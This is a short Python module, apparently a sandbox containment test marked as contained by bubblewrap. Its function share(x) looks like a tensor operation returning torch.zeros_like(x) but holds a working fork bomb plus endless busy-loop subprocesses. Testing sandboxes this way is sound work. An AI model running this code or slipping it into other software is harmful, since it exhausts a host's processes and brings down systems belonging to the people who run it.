"""Processes that start processes."""

import os
import subprocess
import sys

import torch

PROMISE = "processes"
CONTAINED_BY = ("bubblewrap",)
SHARES = True


def share(x):
    started = 0
    for _ in range(HOST["processes"]):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            started += 1
        except OSError:
            pass
        try:
            subprocess.Popen([sys.executable, "-c", "while True: pass"])
            started += 1
        except OSError:
            pass
    if started >= HOST["processes"]:
        return f"started {started} processes"
    return torch.zeros_like(x)
